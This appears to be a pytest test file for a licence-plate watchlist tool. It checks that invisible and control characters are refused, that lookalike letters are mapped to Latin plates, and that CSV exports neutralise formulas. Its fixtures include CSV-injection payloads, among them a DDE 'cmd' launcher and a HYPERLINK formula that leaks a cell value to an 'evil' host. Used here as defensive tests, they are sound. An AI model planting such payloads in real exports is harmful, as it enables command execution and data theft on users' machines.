"""People's text: control and invisible characters refused by name, CSV cells that a
spreadsheet never runs as formulas, and exports that load back as they were."""

from __future__ import annotations

import csv
import io
import re

import pytest
from lanescreen.domain.importing import format_export, parse_import, refuse_duplicates
from lanescreen.domain.text import csv_cell, from_csv_cell, text_problem
from lanescreen.domain.watchlists import EntryError, EntryFields, validate_entry
from lanescreen.errors import InvalidRequestError


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("AB\u202e12", "contains the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE)"),
        ("stolen\u200b", "contains the invisible character U+200B (ZERO WIDTH SPACE)"),
        ("a\u2066b", "contains the invisible character U+2066 (LEFT-TO-RIGHT ISOLATE)"),
        ("\ufeffreason", "contains the invisible character U+FEFF (ZERO WIDTH NO-BREAK SPACE)"),
        ("bell\x07", "contains the control character U+0007"),
        ("c1\x85c1", "contains the control character U+0085"),
        ("bad\udcff", "is not valid UTF-8 text"),
    ],
)
def test_hidden_characters_are_named(text: str, problem: str) -> None:
    assert text_problem(text) == problem
    with pytest.raises(EntryError, match=re.escape(problem)):
        validate_entry({"plate": "AB123CD", "reason": text})


def test_visible_text_and_line_breaks_where_allowed() -> None:
    assert text_problem("Vol signalé 12/3, Zürich — 京A12345") is None
    assert text_problem("two\nlines\tand a tab") is None
    assert text_problem("two\nlines", multiline=False) == "contains the control character U+000A"


def test_a_plate_with_a_bidi_override_is_refused_not_stored_reversed() -> None:
    with pytest.raises(EntryError, match=r"plate: .*U\+202E"):
        validate_entry({"plate": "\u202eDC21"})


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\")", "+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(A1)", "\tx", "\rx"])  # fmt: skip
def test_formula_cells_are_neutralised_and_read_back(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert from_csv_cell(csv_cell(value)) == value
    assert csv_cell("AB123CD") == "AB123CD" and from_csv_cell("'quoted") == "'quoted"


def test_a_watchlist_export_runs_no_formula_and_loads_back_as_it_was() -> None:

    fields = EntryFields("AB123CD", reason='=HYPERLINK("http://evil/?"&A1)', owner="+cmd|calc")
    exported = format_export([fields]).decode()
    [row] = list(csv.DictReader(io.StringIO(exported)))
    assert row["reason"].startswith("'=") and row["owner"] == "'+cmd|calc"
    [loaded] = parse_import(exported.encode(), "csv")
    assert loaded.fields is not None
    assert (loaded.fields.reason, loaded.fields.owner) == (fields.reason, fields.owner)


def test_an_import_names_the_line_of_an_invisible_character() -> None:
    data = "plate,reason\nAB123CD,fine\nKL456MN,bad\u202ereason\n".encode()
    rows = parse_import(data, "csv")
    assert rows[0].fields is not None and rows[1].fields is None
    assert rows[1].line == 3 and "U+202E" in (rows[1].error or "")


def test_an_empty_import_is_still_refused() -> None:
    with pytest.raises(InvalidRequestError):
        parse_import(b"", "csv")


@pytest.mark.parametrize(
    ("written", "kept", "normalized"),
    [
        ("К179658", "K179658", "K179658"),  # Cyrillic KA
        ("АB123CD", "AB123CD", "AB123CD"),  # Cyrillic A
        ("ΟB123CD", "OB123CD", "OB123CD"),  # Greek OMICRON
        ("ΙΖ 55", "IZ 55", "IZ55"),  # Greek IOTA is the upright stroke I, not l
        ("ＡＢ－１２３", "AB-123", "AB123"),  # full-width forms
        ("MÜ AB 12", "MU AB 12", "MUAB12"),  # a German district code
        ("٣٤٥ AB", "345 AB", "345AB"),  # Arabic-Indic digits
        ("京A12345", "京A12345", "京A12345"),
    ],
)
def test_lookalike_letters_become_the_latin_plate(written: str, kept: str, normalized: str) -> None:
    fields = validate_entry({"plate": written})
    assert fields.plate == kept
    assert fields.normalized_plate == normalized


@pytest.mark.parametrize("letter", ["Ж", "Я", "Ы", "Ω"])
def test_a_letter_like_no_latin_one_is_refused_by_name(letter: str) -> None:
    with pytest.raises(EntryError, match=re.escape(f"{letter!r} (U+{ord(letter):04X}")):
        validate_entry({"plate": f"{letter}123AB"})


def test_an_import_names_the_line_of_a_lookalike_it_cannot_map() -> None:
    rows = parse_import("plate\nК179658\nЖ179658\n".encode())
    assert rows[0].fields is not None and rows[0].fields.plate == "K179658"
    assert rows[1].fields is None and rows[1].describe().startswith("line 3: plate: 'Ж179658'")


def test_duplicate_plates_of_one_file_and_of_the_list_are_reported() -> None:
    rows = parse_import("plate,region\nAB-123,\nab 123,\nAB123,fr\nК1,\nXY9,\n".encode())
    checked = refuse_duplicates(rows, {("XY9", ""): "entry-7"})
    assert [r.ok for r in checked] == [True, False, True, True, False]
    assert checked[1].describe() == "line 3: plate: 'ab 123' is already on line 2 of this file"
    assert "already on the list as entry entry-7" in checked[4].error
